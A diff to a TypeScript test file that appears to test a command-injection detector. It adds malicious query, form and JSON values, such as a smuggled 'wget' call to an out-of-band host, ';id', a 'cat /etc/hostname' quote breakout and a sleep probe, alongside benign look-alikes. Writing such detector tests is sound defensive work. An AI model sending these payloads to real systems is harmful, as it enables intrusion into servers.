@@ -357,6 +357,11 @@ const COMMAND_INJECTION: Case[] = [
   ["query", "run=|+type+C:%5CWindows%5Crepair%5CSAM"],
   ["query", "q=|id|"],
   ["query", "q=;sleep+5"],
+  // After the argument a command line was built around, or a quote that closes it.
+  ["body:form", "logtype=XML&timezone=1%3Bwget+http%3A%2F%2Foast.example%3B"],
+  ["query", "ip=127.0.0.1;id"],
+  ["body:json", JSON.stringify({ conf: { message: "\"; cat /etc/hostname #" } })],
+  ["query", "host=example.com';sleep+5;'"],
 ];
 const NOT_COMMAND_INJECTION: Case[] = [
   ["query", "q=fish+%26+chips"],
@@ -371,6 +376,11 @@ const NOT_COMMAND_INJECTION: Case[] = [
   ["query", "q=%26+at+home"],
   // A Markdown code fence.
   ["body:json", JSON.stringify({ body: "```sh\n$ ls -la\n$ cat package.json\n```" })],
+  // An argument and a ';' before a word that is no command, or a command word that reads as prose.
+  ["query", "ct=text/html;charset=utf-8"],
+  ["body:json", JSON.stringify({ style: "color:red;display:none" })],
+  ["body:json", JSON.stringify({ genres: "rock;pop;more info" })],
+  ["query", "lang=en-US;q=0.9"],
 ];
 
 // PHP code reading a superglobal (phpglobals.ts).
